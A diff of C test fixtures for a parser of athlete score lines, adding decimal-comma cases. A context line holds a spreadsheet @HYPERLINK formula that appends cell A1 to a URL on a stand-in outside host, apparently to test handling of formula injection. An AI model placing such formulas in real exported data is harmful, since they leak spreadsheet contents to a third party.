@@ -295,6 +295,12 @@ static const struct {
 	  "\"click\")\n",
 	  "Jane Doe|technique|0/0|4/0|@HYPERLINK(\"http://x.example/?\"&A1,"
 	  "\"click\")\n" },
+	/* a decimal comma, as much of the world writes it: a comma
+	 * between digits is the number's, not the list's */
+	{ "Jane Doe: poids 82,5, split 1:45,3; technique 4,fitness 3\n",
+	  "Jane Doe|poids|0/0|825/-1|\nJane Doe|split|0/0|1053/-2|\n"
+	  "Jane Doe|technique|0/0|4/0|\nJane Doe|fitness|0/0|3/0|\n" },
+	{ "Jane Doe: 4,3\n", "Jane Doe||1/2|4/0|\nJane Doe||2/2|3/0|\n" },
 	/* marks under lines quoted back are skipped */
 	{ "Jane Doe:\n fitness 4\n(!) fitness 9 is outside 1-5\n",
 	  "Jane Doe|fitness|0/0|4/0|\n" },
